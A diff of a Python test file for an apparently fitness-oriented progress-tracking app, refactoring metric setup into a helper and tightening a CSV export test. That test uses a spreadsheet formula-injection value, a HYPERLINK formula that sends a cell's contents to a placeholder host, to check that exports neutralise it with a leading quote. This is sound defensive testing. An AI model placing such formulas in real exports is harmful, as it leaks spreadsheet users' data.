@@ -3,6 +3,8 @@ the field, the path with the change, edits and removals, CSV, tenancy."""
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date
 
 import pytest
@@ -116,20 +118,25 @@ def test_edit_and_remove_an_assessment(db: Engine) -> None:
             progress.remove_assessment(session=s, actor=t.owner, assessment_id=first, now=NOW)
 
 
+def _own_metric(session: Session, actor, name: str, unit: str, decimals: int = 1):  # type: ignore[no-untyped-def]
+    """A metric the team adds itself (higher is better, 1 to 500)."""
+    return metrics.save_metric(
+        session=session,
+        actor=actor,
+        metric_id=None,
+        name=name,
+        unit=unit,
+        decimals=decimals,
+        min_raw="1",
+        max_raw="500",
+        lower_is_better=False,
+    )
+
+
 def test_custom_metric_higher_is_better(session: Session) -> None:
     t = make_team(session)
     ana = make_client(session, t.team.id, name="Ana")
-    metric = metrics.save_metric(
-        session=session,
-        actor=t.owner,
-        metric_id=None,
-        name="Massa magra",
-        unit="kg",
-        decimals=1,
-        min_raw="10",
-        max_raw="150",
-        lower_is_better=False,
-    )
+    metric = _own_metric(session, t.owner, "Massa magra", "kg")
     with pytest.raises(Invalid) as err:
         metrics.save_metric(
             session=session,
@@ -171,21 +178,12 @@ def test_csv_for_a_brazilian_spreadsheet(session: Session) -> None:
 
 
 def test_csv_metric_names_and_units_never_run_as_formulas(session: Session) -> None:
-    """A metric is named by the team: a name or unit that starts like a formula (after
-    spaces too) is exported with a leading quote, so the spreadsheet shows it as text."""
+    """A metric is named by the team: a name or unit that starts like a formula is exported
+    with a leading quote, so the spreadsheet shows it as text (the name is saved trimmed;
+    a formula after spaces: tests/services/test_text.py)."""
     t = make_team(session)
     ana = make_client(session, t.team.id, name="Ana")
-    metric = metrics.save_metric(
-        session=session,
-        actor=t.owner,
-        metric_id=None,
-        name=' =HYPERLINK("http://x.y/?"&A1)',
-        unit="@cm",
-        decimals=0,
-        min_raw="1",
-        max_raw="500",
-        lower_is_better=False,
-    )
+    metric = _own_metric(session, t.owner, ' =HYPERLINK("http://x.y/?"&A1)', "@cm", 0)
     progress.save_assessment(
         session=session,
         actor=t.owner,
@@ -197,10 +195,8 @@ def test_csv_metric_names_and_units_never_run_as_formulas(session: Session) -> N
         now=NOW,
     )
     text = progress.export_csv(session=session, actor=t.owner, client_id=ana)
-    row = next(line for line in text.splitlines() if "HYPERLINK" in line)
-    day, name, _value, unit = row.split(";", 3) if row.count(";") == 3 else ("", "", "", "")
-    assert day == "01/03/2026"
-    assert name.strip('"').startswith("'") and unit == "'@cm", row
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert rows[1] == ["01/03/2026", '\'=HYPERLINK("http://x.y/?"&A1)', "90", "'@cm"], rows
 
 
 def test_permissions_and_tenancy(db: Engine) -> None:
